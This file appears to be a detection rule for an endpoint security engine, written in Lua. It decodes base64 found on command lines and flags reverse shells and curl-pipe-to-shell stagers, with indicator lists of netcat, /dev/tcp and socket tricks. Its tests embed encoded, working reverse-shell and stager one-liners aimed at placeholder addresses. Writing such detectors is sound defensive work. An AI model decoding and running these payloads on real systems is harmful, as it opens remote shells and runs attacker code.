-- Base64 runs on a command line decoded and looked into: reverse shells and
-- download-and-run stagers hidden from string signatures.
local K = kestrel
local find, sub = string.find, string.sub

local MIN_RUN = 16       -- shortest base64 run decoded, in characters
local MAX_RUNS = 16      -- runs decoded per layer ...
local MAX_DECODES = 32   -- ... and per event, over both layers
local MAX_DECODED = 65536 -- base64 characters decoded per event
local MIN_PRINTABLE = 0.9 -- a decoded run is text when this share is printable

-- What reverse shells are made of: a match on these requests kill.
local SHELL = { "/dev/tcp/", "/dev/udp/", "nc -e", "ncat -e", "socket.socket", "pty.spawn",
  "fsockopen", "tcpsocket", "/inet/tcp/" }
-- An interactive shell or a fifo counts only next to a network tool
-- ("ssh -i key host" or "docker exec -it c bash -i" alone are not shells).
local INTERACTIVE = { "sh -i", "mkfifo" }
local NET_TOOL = { "nc ", "ncat ", "netcat ", "socat ", "telnet ", "s_client" }
-- Stager steps: a download tool together with running or chmodding.
local FETCH = { "curl ", "wget ", "curl\t", "wget\t" }
local RUN = { "| sh", "|sh", "| bash", "|bash", "chmod +x", "chmod 7", "chmod 5", "chmod u+x",
  "chmod a+x", "&& sh ", "; sh ", "&& bash ", "; bash ", "sh -c", "bash -c", "python -c", "python3 -c" }

local function first_of(s, needles)
  for i = 1, #needles do
    if find(s, needles[i], 1, true) then return needles[i] end
  end
  return nil
end

-- Decode the base64 runs of s that turn out to be text; look into each, and
-- into a second layer when the text holds base64 again. Returns the verdict
-- ("shell" or "stager"), the indicator, the decoded text and its layer.
local function inspect(s, layer, budget)
  local runs = K.base64_runs(s, MIN_RUN, MAX_RUNS)
  for i = 1, #runs do
    local run = runs[i]
    if budget.left <= 0 or budget.decodes <= 0 then return nil end
    budget.left = budget.left - #run
    budget.decodes = budget.decodes - 1
    local text = K.base64_decode(run)
    if text and #text >= 8 and K.printable_ratio(text) >= MIN_PRINTABLE then
      local low = text:lower()
      local ind = first_of(low, SHELL)
      if ind then return "shell", ind, text, layer end
      ind = first_of(low, INTERACTIVE)
      local tool = ind and first_of(low, NET_TOOL)
      if tool then return "shell", ind .. " + " .. tool:gsub("%s+$", ""), text, layer end
      local fetch = first_of(low, FETCH)
      local run_it = fetch and first_of(low, RUN)
      if run_it then return "stager", fetch:sub(1, 4) .. " + " .. run_it, text, layer end
      if layer < 2 then
        local v, ind2, text2, layer2 = inspect(text, layer + 1, budget)
        if v then return v, ind2, text2, layer2 end
      end
    end
  end
  return nil
end

local function check(cmdline)
  if type(cmdline) ~= "string" then return nil end
  return inspect(cmdline, 1, { left = MAX_DECODED, decodes = MAX_DECODES })
end

local function proc(args, exe)
  return {
    event = { category = "process", type = "start", action = "exec" },
    process = { name = args[1], executable = exe, args = args, args_count = #args,
      command_line = table.concat(args, " "), parent = { name = "sh" } },
    user = { name = "www-data" },
  }
end

rule {
  id = "kestrel-lua-base64-decoded-payload",
  name = "Base64 on a command line decodes to a reverse shell or a stager",
  severity = "high",
  tags = { "attack.defense_evasion", "attack.t1140", "attack.t1027", "attack.execution",
    "attack.t1059.004", "attack.command_and_control", "attack.t1105" },
  description = [[
`echo <base64> | base64 -d | bash`, `python3 -c "exec(b64decode('...'))"`
and `{echo,<base64>}|{base64,-d}|bash` hide a reverse shell or a stager from
string signatures. The rule finds base64 runs of 16 or more characters on
the command line (standard and URL-safe alphabets, with or without
padding), decodes those that turn out to be text (90% printable), and a
second layer when the text holds base64 again, then looks inside for what
reverse shells are made of (`/dev/tcp/`, `nc -e`, `socket.socket`,
`pty.spawn`, `fsockopen`, or `sh -i`/`mkfifo` next to nc, socat, telnet or
openssl s_client: the match requests `kill`) and for stagers (a `curl` or `wget` together with a pipe into a
shell, `chmod +x` or `sh -c`: alert only).
Work per event is bounded: 16 runs per layer, 32 decodes and 64 KiB of
base64 in all.
The EQL function lua.base64_text(s) returns the text of the first base64
run of s that decodes to text (null when none).
False positives: deployment tooling that ships encoded scripts which
themselves download and run code; cloud-init user data passed on a
command line.
]],
  prefilter = [[
process where event.type == "start" and length(process.command_line) > 24 and
  process.command_line : ("*base64*", "*b64decode*", "*decode_base64*", "*FromBase64String*",
                          "*atob(*", "*Buffer.from*", "*openssl enc*")
]],
  fields = { "process.command_line", "process.name", "process.parent.name" },
  actions = { "alert", "kill" },
  match = function(e)
    local verdict, indicator, text, layer = check(e["process.command_line"])
    if not verdict then return false end
    local preview = #text > 120 and (sub(text, 1, 120) .. "...") or text
    return {
      reason = "base64 payload decodes to a " .. (verdict == "shell" and "reverse shell" or "stager")
        .. " (" .. indicator .. ")",
      data = { verdict = verdict, indicator = indicator, layer = layer, decoded = preview,
        process = e["process.name"], parent = e["process.parent.name"] },
      actions = verdict == "shell" and { "kill" } or nil,
    }
  end,
  tests = {
    { name = "echo | base64 -d | bash with /dev/tcp alerts (kill)", expect = 1, events = {
      proc({ "bash", "-c", "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE= | base64 -d | bash" },
        "/usr/bin/bash"),
    } },
    { name = "python exec of a base64 socket/pty reverse shell alerts (kill)", expect = 1, events = {
      proc({ "python3", "-c", "import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgnMjAzLjAuMTEzLjcnLDQ0NDQpKTtbb3MuZHVwMihzLmZpbGVubygpLGYpIGZvciBmIGluICgwLDEsMildO3B0eS5zcGF3bignL2Jpbi9iYXNoJyk='))" },
        "/usr/bin/python3.11"),
    } },
    { name = "double-encoded curl | sh stager alerts", expect = 1, events = {
      proc({ "sh", "-c", "echo WTNWeWJDQXRabk5UVENCb2RIUndPaTh2TVRrNExqVXhMakV3TUM0eU15OTRMbk5vSUh3Z2MyZz0= | base64 -d | base64 -d | sh" },
        "/usr/bin/dash"),
    } },
    { name = "URL-safe unpadded mkfifo reverse shell alerts (kill)", expect = 1, events = {
      proc({ "python3", "-c", "import base64,os;os.system(base64.urlsafe_b64decode('cm0gLWYgL3RtcC9wO21rZmlmbyAvdG1wL3A7Y2F0IC90bXAvcHwvYmluL3NoIC1pIDI-JjF8bmMgMjAzLjAuMTEzLjcgNDQ0NCA-L3RtcC9w'+'=='))" },
        "/usr/bin/python3.11"),
    } },
    { name = "brace-expansion form alerts (kill)", expect = 1, events = {
      proc({ "bash", "-c", "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE=}|{base64,-d}|{bash,-i}" },
        "/usr/bin/bash"),
    } },
    { name = "decoding harmless text does not alert", expect = 0, events = {
      proc({ "bash", "-c", "echo aGVsbG8gZnJvbSB0aGUgYnVpbGQgYm94Cg== | base64 -d" }, "/usr/bin/bash"),
    } },
    { name = "decoding a registry credential does not alert", expect = 0, events = {
      proc({ "sh", "-c", "echo ZGVwbG95OnMzY3IzdC10b2tlbg== | base64 -d > /run/secrets/registry" },
        "/usr/bin/dash"),
    } },
    { name = "an encoded download that is not run does not alert", expect = 0, events = {
      proc({ "bash", "-c", "echo Y3VybCAtZnNTTCAtbyAvdG1wL2luc3RhbGwuc2ggaHR0cHM6Ly9nZXQuZXhhbXBsZS5jb20vaW5zdGFsbC5zaA== | base64 -d > /tmp/fetch.txt" },
        "/usr/bin/bash"),
    } },
    { name = "an encoded ssh -i deploy step does not alert", expect = 0, events = {
      proc({ "bash", "-c", "echo c3NoIC1pIH4vLnNzaC9kZXBsb3kgZGVwbG95QGFwcDEgc3VkbyBzeXN0ZW1jdGwgcmVzdGFydCBhcHA= | base64 -d | bash" },
        "/usr/bin/bash"),
    } },
    { name = "base64 of binary data does not alert", expect = 0, events = {
      proc({ "sh", "-c", "echo H4sIAAAAAAACA1NW1E/KzNMvzuBKTc7IV0jOz0vLTC8tSk1RsFPQTy1J1s/NL0nRS9E3NNBNKs3MSeECAKY49SgxAAAA | base64 -d | gunzip" },
        "/usr/bin/dash"),
    } },
  },
}

func("base64_text", function(s)
  if type(s) ~= "string" then return nil end
  for _, run in ipairs(K.base64_runs(s, MIN_RUN, MAX_RUNS)) do
    local text = K.base64_decode(run)
    if text and #text > 0 and K.printable_ratio(text) >= MIN_PRINTABLE then return text end
  end
  return nil
end)
